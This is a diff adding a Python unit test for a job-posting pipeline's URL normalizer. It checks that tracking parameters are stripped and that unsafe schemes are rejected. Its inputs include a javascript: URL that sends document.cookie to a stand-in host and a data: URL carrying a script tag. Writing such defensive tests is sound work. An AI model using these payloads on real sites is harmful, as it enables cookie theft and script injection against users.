@@ -47,3 +47,11 @@ def test_seed_job_on_the_demo_board_normalizes_the_same() -> None:
         "year",
     )
     assert posting.workplace == ["hybrid", "remote"]
+
+
+def test_only_web_links_survive_normalization() -> None:
+    from pipeline.normalize import canonical_url
+
+    assert canonical_url("https://jobs.example.com/a?utm_source=x&id=1") == "https://jobs.example.com/a?id=1"
+    assert canonical_url("javascript:fetch('//evil.example/'+document.cookie)//") is None
+    assert canonical_url("data:text/html,<script>alert(1)</script>") is None
